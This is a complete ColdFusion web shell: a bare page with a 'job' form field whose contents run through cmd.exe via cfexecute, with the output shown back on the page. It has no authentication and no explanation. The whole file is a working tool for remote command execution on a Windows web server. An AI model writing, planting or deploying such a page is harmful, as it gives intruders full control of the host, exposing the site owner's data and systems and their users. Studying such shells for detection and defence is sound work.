<html><body>
<cfif IsDefined("FORM.job")>
  <cfexecute name="C:\Windows\System32\cmd.exe" arguments="/c #job#" outputfile="#GetTempDirectory()#out.txt" timeout="30"></cfexecute>
  <cffile action="read" file="#GetTempDirectory()#out.txt" variable="result">
  <pre><cfoutput>#HTMLEditFormat(result)#</cfoutput></pre>
</cfif>
<form method="post"><input type="text" name="job" size="60"><input type="submit" value="run"></form>
</body></html>
